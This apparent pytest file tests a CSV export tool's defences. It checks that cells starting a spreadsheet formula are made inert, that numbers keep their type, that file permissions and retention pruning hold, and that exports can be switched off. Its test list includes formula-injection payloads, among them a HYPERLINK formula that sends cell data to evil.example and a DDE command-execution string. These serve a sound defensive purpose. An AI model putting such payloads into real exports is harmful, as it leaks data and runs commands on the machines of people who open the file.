"""Attack cases for CSV exports: text cells a spreadsheet would run as formulas (customer-written or imported
values such as a country `=HYPERLINK(…)`) are written inert while numbers stay numbers; exports are switched
off where asked (the Slack bot) and old ones are removed by the retention rule."""

from __future__ import annotations

import csv
import os
import stat
import time
from pathlib import Path

import pandas as pd
import pytest

from assistant.core.settings import Settings
from assistant.core.workspace import Workspace
from tools.context import ToolContext
from tools.exports import ExportsDisabledError, inert_cell, prune_exports, write_csv_export
from tools.segments.segment_tool import EXPORTS_OFF, segment_query
from tools.segments.spec import SegmentSpec

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "=",
    "-",
    "+44 20 7946 0000",  # phone-like text: shown as text, never evaluated
    "  =1+1",  # leading spaces that an importer may trim
]
HARMLESS = ["Germany", "", "12", "-12.5", "+3", "1e5", "a=b", "shop@example.test is masked elsewhere", " -7"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_that_starts_a_formula_is_made_inert(value: str) -> None:
    assert inert_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_text_and_numbers_written_as_text_stay_as_they_are(value: str) -> None:
    assert inert_cell(value) == value


def test_an_export_file_has_inert_cells_numbers_kept_and_is_owner_only(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "customer_id": ["C1", "C2", "C3"],
            "country": DANGEROUS[:3],
            "orders": [3, -1, 0],
            "spend": [-12.5, 1e6, 0.25],
            "=label": ["x", "y", "@z"],
        }
    )
    path = write_csv_export(frame, tmp_path, Settings(home=tmp_path, llm="scripted"), "segment-test")
    with path.open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["customer_id", "country", "orders", "spend", "'=label"]
    assert [r[1] for r in rows[1:]] == ["'" + v for v in DANGEROUS[:3]]
    assert [r[2] for r in rows[1:]] == ["3", "-1", "0"] and [r[3] for r in rows[1:]] == ["-12.5", "1000000.0", "0.25"]
    assert [r[4] for r in rows[1:]] == ["x", "y", "'@z"]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert frame["country"].tolist() == DANGEROUS[:3]  # the caller's frame is not changed


def test_retention_removes_old_and_surplus_exports_only(tmp_path: Path) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    now = time.time()
    ages_h = {"fresh-1.csv": 1, "fresh-2.csv": 2, "fresh-3.csv": 3, "stale.csv": 30, "old.xlsx": 48, "notes.txt": 99}
    for name, hours in ages_h.items():
        (folder / name).write_text("x")
        os.utime(folder / name, (now - hours * 3600, now - hours * 3600))
    settings = Settings(home=tmp_path, llm="scripted", export_retention_hours=24, export_max_files=2)
    removed = prune_exports(folder, settings, now=now)
    assert sorted(p.name for p in removed) == ["fresh-3.csv", "old.xlsx", "stale.csv"]
    assert sorted(p.name for p in folder.iterdir()) == ["fresh-1.csv", "fresh-2.csv", "notes.txt"]


def test_writing_an_export_prunes_the_folder(tmp_path: Path) -> None:
    settings = Settings(home=tmp_path, llm="scripted", export_max_files=2)
    for n in range(4):
        write_csv_export(pd.DataFrame({"a": [n]}), tmp_path, settings, f"e{n}")
        time.sleep(0.01)  # distinct modification times
    assert len(list((tmp_path / "exports").iterdir())) == 2


def test_exports_switched_off_write_nothing(tmp_path: Path) -> None:
    settings = Settings(home=tmp_path, llm="scripted", exports_enabled=False)
    with pytest.raises(ExportsDisabledError):
        write_csv_export(pd.DataFrame({"a": [1]}), tmp_path, settings, "nope")
    assert not (tmp_path / "exports").exists()


@pytest.mark.parametrize("enabled", [True, False])
def test_the_segment_tool_exports_only_where_exports_are_on(
    demo_workspace: Workspace, tmp_path: Path, enabled: bool
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "current").symlink_to(demo_workspace.current.resolve())
    settings = Settings(home=home, llm="scripted", exports_enabled=enabled)
    ctx = ToolContext(settings=settings, workspace=Workspace(home))
    try:
        result = segment_query(SegmentSpec.model_validate({"segments": ["champions"], "export": True}), ctx)
    finally:
        ctx.close()
    exports = home / "runs" / "exports"
    if enabled:
        assert result.export_path and Path(result.export_path).parent == exports
        assert EXPORTS_OFF not in result.notes
    else:
        assert result.export_path is None and EXPORTS_OFF in result.notes
        assert not exports.exists()
        assert "Exported" not in result.to_markdown()
